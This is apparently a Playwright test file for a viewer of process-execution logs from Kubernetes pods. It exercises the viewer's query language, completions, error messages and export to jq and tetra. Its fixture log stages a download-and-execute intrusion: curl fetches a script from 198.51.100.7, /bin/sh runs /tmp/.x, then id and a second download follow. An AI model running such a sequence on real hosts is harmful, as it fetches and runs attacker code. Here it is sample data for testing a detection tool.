import { drawLog } from '../src/testing/draw-log'
import { expect, test, withLog } from './helpers/test'

const log = drawLog(`
  pod default/xwing container 1fb931d2 node n1
    10 /bin/bash 0s..9s
      11 /usr/bin/curl -s http://198.51.100.7/s.sh 1s..2s exit 22
      12 /bin/sh /tmp/.x 3s..8s
        13 /usr/bin/id 3.5s..3.6s
        14 /usr/bin/curl -o /tmp/.cache/k 4s..5s
  pod payments/worker-0 container 836e5ba9 node n1
    20 /opt/worker 0s..
      21 /usr/bin/psql -c "select CURLY" 6s..7s exit 127
`)

withLog(log.text)

test('fields, regular expressions and lineage find processes', async ({ viewer }) => {
  for (const [query, count] of [
    ['binary:curl', 2],
    ['exit:>0', 2],
    ['-exit:0', 2],
    ['args~"https?://"', 1],
    ['under:(binary:sh)', 2],
    ['pod:worker-* or name:id', 3],
  ] as const) {
    await viewer.filter.fill(query)
    await expect(viewer.status).toContainText(`matching ${count} of 7`)
  }
})

test('Enter right after typing goes to the first match', async ({ viewer, page }) => {
  await viewer.filter.focus()
  await page.keyboard.type('psql')
  await page.keyboard.press('Enter')
  await expect(viewer.row('/usr/bin/psql')).toHaveAttribute('aria-selected', 'true')
})

test('a word that looks like a field says that it is none', async ({ viewer, page }) => {
  await viewer.filter.fill('status:1')
  await expect(page.getByText('"status" is no field, so this is searched as text; did you mean exit:?')).toBeVisible()
  await viewer.filter.fill('foo:bar')
  await expect(page.getByText('"foo" is no field, so this is searched as text')).toBeVisible()
  await viewer.filter.fill('http://198')
  await expect(page.getByText('is no field')).toHaveCount(0)
})

test('however narrow the window is, the query lies over nothing else', async ({ viewer, page }) => {
  await viewer.filter.fill('binary:curl exit:>0 or pod:worker-*')
  await expect(viewer.status).toContainText('matching')
  for (const width of [1440, 1280, 1000, 800, 720]) {
    await page.setViewportSize({ width, height: 720 })
    const box = await page.getByRole('search').boundingBox()
    const rights = await page
      .getByRole('search')
      .locator('button:visible, label:visible, [role=status]:visible')
      .evaluateAll((all) => all.map((element) => element.getBoundingClientRect().right))
    expect(Math.max(...rights)).toBeLessThanOrEqual(box!.x + box!.width)
    expect((await viewer.filter.boundingBox())!.width).toBeGreaterThan(50)
  }
})

test('an error is said where it is, and the last query stays applied', async ({ viewer, page }) => {
  await viewer.filter.fill('curl')
  await expect(viewer.status).toContainText('matching 3 of 7')
  await viewer.filter.fill('curl exit:maybe')
  await expect(page.getByText('exit needs a whole number, such as 127')).toBeVisible()
  await expect(page.locator('.query-ink .wrong')).toHaveText('maybe')
  await expect(viewer.filter).toHaveAttribute('aria-invalid', 'true')
  await expect(viewer.status).toContainText('matching 3 of 7')
  await viewer.filter.fill('args~"a("')
  await expect(page.getByText('missing closing )')).toBeVisible()
  await expect(viewer.status).toContainText('matching 3 of 7')
  await viewer.filter.fill('curl exit:0')
  await expect(viewer.status).toContainText('matching 1 of 7')
  await expect(viewer.filter).toHaveAttribute('aria-invalid', 'false')
})

test('names and values of the log are completed with the keyboard', async ({ viewer, page }) => {
  await viewer.filter.click()
  await page.keyboard.type('bin')
  const options = page.getByRole('listbox', { name: 'Completions' }).getByRole('option')
  await expect(options).toHaveText([/^binary:/])
  await page.keyboard.press('Tab')
  await expect(viewer.filter).toHaveValue('binary:')
  await expect(options.first()).toHaveText('curl2 processes')
  await page.keyboard.type('ps')
  await expect(options.first()).toHaveText('psql1 process')
  await page.keyboard.press('ArrowDown')
  await expect(options.first()).toHaveAttribute('aria-selected', 'true')
  await page.keyboard.press('Enter')
  await expect(viewer.filter).toHaveValue('binary:psql ')
  await expect(options).toHaveCount(0)
  await expect(viewer.status).toContainText('matching 1 of 7')
  await page.keyboard.type('outcome:att')
  await expect(options).toHaveText([/^attention/])
  await page.keyboard.press('Escape')
  await expect(options).toHaveCount(0)
  await expect(viewer.filter).toHaveValue('binary:psql outcome:att')
})

test('the reference opens with F1, and its examples are queries', async ({ viewer, page }) => {
  await viewer.filter.focus()
  await page.keyboard.press('F1')
  const reference = page.getByRole('dialog', { name: 'Query language' })
  await reference.getByRole('button', { name: 'exit:(126,127)' }).first().click()
  await expect(reference).toHaveCount(0)
  await expect(viewer.filter).toHaveValue('exit:(126,127)')
  await expect(viewer.status).toContainText('matching 1 of 7')
})

test('a value of the details, a pod and a span become part of the query', async ({ viewer, page }) => {
  await viewer.selectRow('/usr/bin/id')
  await viewer.details.getByRole('button', { name: 'Only binary /usr/bin/id' }).click()
  await expect(viewer.filter).toHaveValue('binary:/usr/bin/id')
  await viewer.pods.getByRole('button', { name: /^xwing/ }).hover()
  await viewer.pods.getByRole('button', { name: 'Not pod default/xwing' }).click()
  await expect(viewer.filter).toHaveValue('binary:/usr/bin/id -pod:default/xwing')
  await expect(viewer.status).toContainText('matching 0 of 7')
  await viewer.filter.fill('')
  await expect(viewer.row('/usr/bin/psql')).toBeVisible()
  await page.keyboard.down('Alt')
  const { x, y } = await viewer.pointOn(viewer.row('/usr/bin/psql'), 0.7)
  await page.mouse.click(x, y)
  await page.keyboard.up('Alt')
  await expect(viewer.filter).toHaveValue('binary:/usr/bin/psql')
})

test('what is found is shown with ancestors, with subtrees, or among all; a link says so', async ({ viewer, page }) => {
  await viewer.filter.fill('name:sh')
  await expect(viewer.row('/usr/bin/id')).toHaveCount(0)
  await page.getByRole('radio', { name: 'Show matches with all below them' }).check()
  await expect(viewer.row('/usr/bin/id')).toBeVisible()
  await expect(viewer.row('/usr/bin/psql')).toHaveCount(0)
  await page.getByRole('radio', { name: 'Show everything, dim what does not match' }).check()
  await expect(viewer.row('/usr/bin/psql')).toBeVisible()
  await expect(viewer.status).toContainText('matching 1 of 7')
  await expect.poll(() => page.url()).toContain('show=dim')
})

test('the query is there for other tools, with what they cannot say', async ({ viewer, page }) => {
  await viewer.filter.fill('binary:curl namespace:default depth:>1')
  await page.getByRole('button', { name: 'Query for other tools' }).click()
  const dialog = page.getByRole('dialog', { name: 'Query for other tools' })
  const jq = dialog.getByRole('region', { name: 'jq', exact: true })
  await expect(jq).toContainText("jq -c 'select(")
  await expect(jq.getByRole('list', { name: 'Not in jq' })).toContainText('depth:>1 is left out')
  await jq.getByRole('button', { name: 'Copy' }).click()
  expect(await viewer.clipboard()).toContain('(.pod.namespace // "") == "default"')
  await expect(dialog.getByRole('region', { name: 'tetra getevents: text' })).toHaveText(
    "tetra getevents --namespace='default' --process='(^|/)curl$'",
  )
  await expect(dialog.getByRole('region', { name: 'Export allowlist: text' })).toHaveText(
    '{"binary_regex":["(^|/)curl$"],"namespace":["default"]}',
  )
  await page.keyboard.press('Escape')
  await expect(dialog).toHaveCount(0)
  await page.keyboard.press('Control+K')
  await page.getByRole('combobox', { name: /Find/ }).fill('query as tetra')
  await page.keyboard.press('Enter')
  await expect(page.getByText('Copied the query as tetra getevents')).toBeVisible()
})
